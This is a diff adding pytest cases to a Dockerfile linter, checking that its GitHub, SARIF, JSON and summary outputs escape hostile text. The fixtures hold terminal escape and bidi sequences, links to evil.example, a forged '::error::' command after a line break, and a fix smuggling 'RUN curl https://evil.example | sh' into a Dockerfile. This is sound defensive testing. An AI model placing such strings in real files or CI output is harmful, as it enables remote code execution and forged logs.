@@ -346,7 +346,8 @@ def test_github_commands(tmp_path: Path) -> None:
         "digest sha256:abc not found: 100%25 sure, a,b"
     )
     assert (
-        commands[5] == "::notice file=a%2Cb%3Ac/Dockerfile,line=2,endLine=4,title=PF103 unpinned-digest::spans%0Alines"
+        # a line break in a message (only ever quoted from a file or a registry) is shown, not obeyed
+        commands[5] == "::notice file=a%2Cb%3Ac/Dockerfile,line=2,endLine=4,title=PF103 unpinned-digest::spans\\nlines"
     )
     assert lines[-2:] == ["2 errors, 2 warnings, 2 notes in 12 files (5 images)", SUMMARY_USAGE]
 
@@ -396,3 +397,59 @@ def test_gitlab_security_rule_errors_are_critical(tmp_path: Path) -> None:
     warn = Finding("PF104", Level.WARNING, "password in reference", Location("Dockerfile", 2, 6))
     out = json.loads(render(make_report(tmp_path, (secret, warn)), "gitlab", rules=RULES, cwd=tmp_path))
     assert [i["severity"] for i in out] == ["critical", "minor"]
+
+
+# ----------------------------------------------------------------- hostile text in every format (issue 8, item 7)
+
+HOSTILE_TEXT = (
+    "x\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[31m\x9b0m \u202eabc \u2066i\u2069 "
+    "z\u200bw <img src=https://evil.example/x.png> [a](https://evil.example) `tick` | pipe\r\n::error::forged"
+)
+
+
+def _hostile_report(tmp_path: Path) -> Report:
+    path = "odd`|\x1b[1m\u202e.Dockerfile"
+    fix = Fix("use tag", Location(path, 1, 13, 1, 16), "1.0\nRUN curl https://evil.example | sh\n#")
+    finding = Finding(
+        "PF201", Level.ERROR, HOSTILE_TEXT, Location(path, 1, 6, 1, 20), "alpine:x", ("alpine:1",), (fix,)
+    )
+    return make_report(tmp_path, (finding,))
+
+
+@pytest.mark.parametrize("fmt", [*FORMATS, "github-summary"])
+def test_no_format_carries_a_control_or_invisible_character(tmp_path: Path, fmt: str) -> None:
+    out = render(_hostile_report(tmp_path), fmt, rules=RULES, cwd=tmp_path)
+    assert [c for c in out if not c.isprintable() and c != "\n"] == []
+
+
+def test_json_formats_keep_the_data_but_escape_it(tmp_path: Path) -> None:
+    report = _hostile_report(tmp_path)
+    data = json.loads(render(report, "json", rules=RULES, cwd=tmp_path))
+    assert data["findings"][0]["path"] == report.findings[0].location.path  # the path is exact once decoded
+    assert "\\x1b]8;;" in data["findings"][0]["message"]  # the message shows the escape as text
+    assert "fixes" not in data["findings"][0]  # a fix inserting a line break is no fix
+
+
+def test_sarif_never_inserts_a_line_break(tmp_path: Path) -> None:
+    sarif = json.loads(render(_hostile_report(tmp_path), "sarif", rules=RULES, cwd=tmp_path))
+    assert "fixes" not in sarif["runs"][0]["results"][0]
+
+
+def test_step_summary_renders_no_html_or_link(tmp_path: Path) -> None:
+    out = render(_hostile_report(tmp_path), "github-summary", rules=RULES, cwd=tmp_path)
+    row = next(line for line in out.splitlines() if line.startswith("| error"))
+    cells = re.split(r"(?<!\\)\|", row)[1:-1]
+    assert len(cells) == 4, cells  # the message's pipe did not open a fifth column
+    for cell in cells[2:]:
+        cell = cell.strip()
+        fence = re.match(r"`+", cell)
+        assert fence is not None and cell.endswith(fence.group(0)), cell  # one code span: nothing in it renders
+        assert fence.group(0) not in cell[len(fence.group(0)) : -len(fence.group(0))]
+
+
+def test_github_command_escapes_properties_and_data(tmp_path: Path) -> None:
+    out = render(_hostile_report(tmp_path), "github", rules=RULES, cwd=tmp_path)
+    command = out.splitlines()[0]
+    assert command.startswith("::error file=odd`|\\x1b[1m\\u202e.Dockerfile,line=1,")
+    assert "\\r\\n::error::forged" in command  # the line break is shown: no second command starts
+    assert len([line for line in out.splitlines() if line.startswith("::")]) == 1
